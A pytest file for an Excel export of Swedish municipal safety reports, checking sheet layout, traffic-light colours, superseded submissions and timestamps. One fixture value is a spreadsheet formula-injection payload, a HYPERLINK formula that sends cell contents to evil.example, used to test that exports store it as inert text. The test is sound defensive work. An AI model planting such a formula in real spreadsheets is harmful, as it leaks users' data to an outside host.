"""The Excel compilation: built from a temp SQLite store, saved, read back with openpyxl."""

from __future__ import annotations

import csv
import os
import shutil
import subprocess
import zipfile
from datetime import datetime

import openpyxl
import pytest

from mailbot.config import load_config
from mailbot.export import export_year, sheet_title
from mailbot.store import Store, open_db
from parsers.vocabulary import COLOR_PALETTE, LEVEL_PALETTE
from tests.harness import require

YEAR = 2026
SHEETS = ["1 Ordningsstörningar", "2 Hot och våld", "3 Extremism", "4 Ungdomar-skolor",
          "5 Alkohol, narkotika, doping", "6 Övrigt", "Svar", "Inlämningar"]
INJECTION = '=HYPERLINK("http://evil.example/?q="&A1,"Klicka")'


def add_submission(db, municipality, period, received_at, answers, *, on_time=1, is_current=1,
                   sender="samordnare@example.se"):
    """A messages row, then the submission, then its answers: {question: (score, color, text)}."""
    uid = str(db["messages"].count + 1)
    message_id = db["messages"].insert({
        "folder": "INBOX", "uidvalidity": 1, "uid": uid, "internaldate": received_at, "outcome": "submission",
        "sender": sender, "municipality": municipality, "period": period}).last_pk
    submission_id = db["submissions"].insert({
        "message_ref": message_id, "municipality": municipality, "period": period, "received_at": received_at,
        "on_time": on_time, "source": "body", "sender": sender, "is_current": is_current}).last_pk
    db["answers"].insert_all([{"submission_id": submission_id, "question": q, "score": score, "color": color,
                               "text": text} for q, (score, color, text) in answers.items()])
    return submission_id


@pytest.fixture
def store(tmp_path):
    db = open_db(tmp_path / "db.sqlite")
    add_submission(db, "Falun", "2026-01", "2026-02-03T09:15:00+00:00", {
        1: (1, None, "Lugnt."), 2: (3, None, "Fler hot i centrum."), 5: (5, None, "Droghandel vid stationen."),
        7: (None, None, "Nattvandring startade.")})
    old = add_submission(db, "Falun", "2026-03", "2026-04-02T08:00:00+00:00",
                         {1: (5, None, "Första versionen.")}, is_current=0)
    new = add_submission(db, "Falun", "2026-03", "2026-04-05T20:30:00+00:00",
                         {1: (2, None, "Rättad version."), 6: (4, None, INJECTION)})
    db["submissions"].update(old, {"superseded_by": new})
    add_submission(db, "Ludvika", "2026-02", "2026-03-02T07:00:00+01:00", {
        1: (None, "grön", "- Klotter"), 2: (None, "gul", "- Hot"), 3: (None, "röd", "- Propaganda"),
        4: (None, "gul", "Bråk\x07 på skolan\x1b."), 5: (None, None, "Inget att rapportera.")},
        sender="ludvika@ludvika.se")
    add_submission(db, "Borlänge", "2026-12", "2027-01-12T12:00:00+00:00", {1: (4, None, "Bränder.")}, on_time=0)
    add_submission(db, "Mora", "2025-12", "2026-01-05T10:00:00+00:00", {1: (5, None, "Förra året.")})
    return Store(db)


@pytest.fixture
def config():
    return load_config()


@pytest.fixture
def exported(store, config, tmp_path):
    path = export_year(store, config, YEAR, tmp_path / "out" / "lagesbild-2026.xlsx")
    assert path.exists()
    return path


@pytest.fixture
def wb(exported):
    return openpyxl.load_workbook(exported)


def row_of(ws, name):
    return next(r for r in range(4, ws.max_row + 1) if ws.cell(r, 1).value == name)


def fill(cell):
    return cell.fill.fgColor.rgb[-6:]


def test_sheets_and_layout(wb, config):
    assert wb.sheetnames == SHEETS
    ws = wb["1 Ordningsstörningar"]
    assert ws["A1"].value == "Lägesbild 2026 – Ordningsstörningar och otrygghet"
    assert {str(r) for r in ws.merged_cells.ranges} == {"B2:D2", "E2:G2", "H2:J2", "K2:M2"}
    assert [ws.cell(2, c).value for c in (2, 5, 8, 11)] == ["Kv 1", "Kv 2", "Kv 3", "Kv 4"]
    assert [ws.cell(3, c).value for c in range(1, 14)] == [
        "Kommun", "jan", "feb", "mar", "apr", "maj", "jun", "jul", "aug", "sep", "okt", "nov", "dec"]
    names = [m.name for m in config.directory.municipalities]
    assert [ws.cell(r, 1).value for r in range(4, 4 + len(names))] == names
    assert ws.max_row == 3 + len(names)
    assert ws.freeze_panes == "B4"
    assert ws.column_dimensions["A"].width >= len("Malung-Sälen")
    assert all(len(n) <= 31 for n in wb.sheetnames)


def test_cells_hold_the_current_level_with_its_colour(wb):
    ws = wb["1 Ordningsstörningar"]
    falun = row_of(ws, "Falun")
    assert ws.cell(falun, 2).value == "Normalt" and fill(ws.cell(falun, 2)) == LEVEL_PALETTE[1][0]
    assert ws.cell(falun, 3).value is None  # February: nothing received
    assert ws.cell(falun, 4).value == "Avvikande"  # the correction, not the superseded "Kritiskt"
    assert fill(ws.cell(falun, 4)) == LEVEL_PALETTE[2][0]
    borlange = row_of(ws, "Borlänge")
    assert ws.cell(borlange, 13).value == "Allvarligt" and fill(ws.cell(borlange, 13)) == LEVEL_PALETTE[4][0]
    assert ws.cell(row_of(ws, "Mora"), 13).value is None  # December of the year before is not 2026
    avesta = row_of(ws, "Avesta")
    assert all(ws.cell(avesta, c).value is None for c in range(2, 14))

    assert wb["2 Hot och våld"].cell(falun, 2).value == "Oroande"
    kritiskt = wb["5 Alkohol, narkotika, doping"].cell(falun, 2)
    assert kritiskt.value == "Kritiskt" and fill(kritiskt) == LEVEL_PALETTE[5][0] and kritiskt.font.color.rgb[-6:] == "FFFFFF"
    assert wb["2 Hot och våld"].cell(falun, 4).value == "–"  # reported in March, question 2 without rating


def test_traffic_light_and_unrated(wb):
    ludvika = row_of(wb["1 Ordningsstörningar"], "Ludvika")
    cells = {name: wb[name].cell(ludvika, 3) for name in SHEETS[:5]}
    assert [c.value for c in cells.values()] == ["Grön", "Gul", "Röd", "Gul", "–"]
    assert [fill(c) for c in list(cells.values())[:3]] == [COLOR_PALETTE[c][0] for c in ("grön", "gul", "röd")]
    assert cells["5 Alkohol, narkotika, doping"].fill.fill_type is None


def test_answers_sheet(wb):
    ws = wb["Svar"]
    assert [c.value for c in ws[1]] == ["Kommun", "Period", "Fråga", "Rubrik", "Bedömning", "Text"]
    rows = [tuple(c.value for c in row) for row in ws.iter_rows(min_row=2)]
    assert ("Falun", "2026-01", 7, "Positiva åtgärder eller händelser", None, "Nattvandring startade.") in rows
    assert ("Ludvika", "2026-02", 4, "Ungdomar/skolor", "Gul", "Bråk på skolan.") in rows
    assert ("Falun", "2026-03", 1, "Ordningsstörningar och otrygghet", "Avvikande", "Rättad version.") in rows
    assert not any(r[5] in ("Första versionen.", "Förra året.") for r in rows)  # superseded / other year
    assert len(rows) == 4 + 2 + 5 + 1
    assert [r[0] for r in rows] == ["Borlänge"] + ["Falun"] * 6 + ["Ludvika"] * 5  # config order
    assert ws.cell(2, 6).alignment.wrap_text


def test_formula_injection_is_stored_as_text(wb, exported):
    ws = wb["Svar"]
    cell = next(row[5] for row in ws.iter_rows(min_row=2) if row[2].value == 6)
    assert cell.value == INJECTION and cell.data_type == "s"
    with zipfile.ZipFile(exported) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
        assert not any("<f>" in z.read(n).decode() for n in sheets)


def test_submissions_sheet(wb):
    ws = wb["Inlämningar"]
    assert [c.value for c in ws[1]] == ["Kommun", "Period", "Mottagen", "I tid", "Avsändare", "Gällande"]
    rows = [tuple(c.value for c in row) for row in ws.iter_rows(min_row=2)]
    assert rows == [
        ("Borlänge", "2026-12", datetime(2027, 1, 12, 13, 0), "Nej", "samordnare@example.se", "Ja"),
        ("Falun", "2026-01", datetime(2026, 2, 3, 10, 15), "Ja", "samordnare@example.se", "Ja"),
        ("Falun", "2026-03", datetime(2026, 4, 2, 10, 0), "Ja", "samordnare@example.se", "Nej"),  # summer time
        ("Falun", "2026-03", datetime(2026, 4, 5, 22, 30), "Ja", "samordnare@example.se", "Ja"),
        ("Ludvika", "2026-02", datetime(2026, 3, 2, 7, 0), "Ja", "ludvika@ludvika.se", "Ja"),
    ]
    assert all(r[2].tzinfo is None for r in rows)
    assert ws.cell(2, 3).is_date and ws.cell(2, 3).number_format == "yyyy-mm-dd hh:mm"


def test_empty_year(store, config, tmp_path):
    wb = openpyxl.load_workbook(export_year(store, config, 2030, tmp_path / "empty.xlsx"))
    assert wb.sheetnames == SHEETS
    ws = wb["6 Övrigt"]
    assert all(ws.cell(r, c).value is None for r in range(4, ws.max_row + 1) for c in range(2, 14))
    assert wb["Svar"].max_row == 1 and wb["Inlämningar"].max_row == 1


@pytest.mark.parametrize("title", ["Ungdomar/skolor", "a: b? [c] *d* \\e", "x" * 40, "ord " * 20])
def test_sheet_titles_are_valid(title):
    name = sheet_title(9, title)
    assert 0 < len(name) <= 31 and not set(name) & set("[]:*?/\\")


def test_libreoffice_opens_it(exported, tmp_path):
    require(shutil.which("soffice"), "LibreOffice is not installed (apt-get install libreoffice-calc-nogui)")
    outdir = tmp_path / "csv"
    subprocess.run(["soffice", "--headless", "--convert-to", "csv", "--outdir", str(outdir), str(exported)],
                   check=True, timeout=180, capture_output=True, env={**os.environ, "HOME": str(tmp_path)})
    rows = list(csv.reader((outdir / "lagesbild-2026.csv").open(encoding="utf-8", errors="replace")))
    falun = next(r for r in rows if r and r[0] == "Falun")
    assert falun[1:4] == ["Normalt", "", "Avvikande"]
